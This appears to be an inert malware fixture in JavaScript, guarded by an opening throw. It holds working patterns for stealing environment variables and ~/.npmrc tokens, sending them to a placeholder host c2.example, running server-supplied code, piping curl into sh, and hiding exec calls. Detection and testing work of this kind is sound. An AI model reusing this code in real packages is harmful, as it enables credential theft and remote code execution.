throw new Error("inert sample");
const https = require('https');
const { exec: run } = require('node:child_process');
const fs = require('fs'), os = require('os'), path = require('path');
const data = { ...process.env };
const key = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
function send(body) {
  const req = https.request({ hostname: 'c2.example', port: 8443, path: '/x', method: 'POST', rejectUnauthorized: false }, res => {
    let out = '';
    res.on('data', c => { out += c; });
    res.on('end', () => { eval(Buffer.from(out, 'base64').toString()); });
  });
  req.write(JSON.stringify(body)); req.end();
}
send(data); send(key);
run('curl -s http://x.example/a.sh | sh', { windowsHide: true });
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
fs.appendFileSync(process.env.HOME + '/.bashrc', 'x');
global.fetch = function () {};
require('module')._load = 1;
setTimeout('go()', 5);
[].constructor.constructor('return 1')();
(0, require('child_process')['ex' + 'ec'])('id');
module.exports.later = async () => { const r = await fetch('http://192.0.2.5:88/p'); const t = await r.text(); new Function(t)(); };
